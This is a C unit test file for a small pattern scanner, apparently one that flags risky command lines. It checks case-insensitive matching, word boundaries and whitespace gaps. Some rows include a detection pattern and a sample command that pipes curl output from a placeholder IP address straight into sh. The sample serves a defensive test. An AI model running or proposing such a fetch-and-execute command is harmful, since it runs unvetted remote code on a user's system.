/*
 * Each row is a pattern, a text, and where it fits first; -1: nowhere.
 */

#include "scan/glance.h"
#include "tap.h"

static void
note_first(void *context, size_t pattern, size_t at)
{
    int *first = context;

    (void)pattern;
    if (*first < 0)
        *first = (int)at;
}

static void
finds_patterns(void)
{
    static const struct {
        const char *pattern, *text;
        int at;
    } rows[] = {
        {"abc", "xABCx", 1},
        {"\babc\b", "xabc abc", 5},
        {"\babc\b", "abcd", -1},
        {"\babc\b", "abc", 0},
        {"a b", "ab", 0},
        {"a b", "a \t b", 0},
        {"a\tb", "ab", -1},
        {"a\tb", "a b", 0},
        {"f ('x", "f(\"x", 0},
        {"f ('x", "f ( x", -1},
        {"curl\t\v| sh\b", "curl -s http://192.0.2.7/a |sh", 0},
        {"curl\t\v| sh\b", "curl -s http://192.0.2.7/a | sha256sum", -1},
        {"curl\t\v| sh\b", "curl -s a\n| sh", -1},
        {"a\vb\vc", "a b c", 0},
        {"a\vb\vc", "a c b", -1},
        {"abc", "ab", -1},
        {"abc", "", -1},
    };

    for (size_t i = 0; i < COUNT(rows); i++) {
        const char *patterns[] = {NULL, rows[i].pattern};
        struct glance_index index;
        int first = -1;

        glance_index_init(&index, patterns, COUNT(patterns));
        glance_search(&index, tap_str(rows[i].text), note_first, &first);
        CHECK_ROW(i, first == rows[i].at);
    }
}

static void
ends_a_gap(void)
{
    char text[GLANCE_GAP_BYTES_MAX + 3];

    memset(text, '.', sizeof(text));
    text[0] = 'a';
    text[GLANCE_GAP_BYTES_MAX + 1] = 'b';
    CHECK(glance_fits("a\vb", (struct str){text, sizeof(text)}, 0));
    text[GLANCE_GAP_BYTES_MAX + 1] = '.';
    text[GLANCE_GAP_BYTES_MAX + 2] = 'b';
    CHECK(!glance_fits("a\vb", (struct str){text, sizeof(text)}, 0));
}

int
main(void)
{
    static const struct tap_case cases[] = {
        {"finds patterns in a text", finds_patterns},
        {"ends a gap at its ceiling", ends_a_gap},
    };

    return tap_main(cases, COUNT(cases));
}
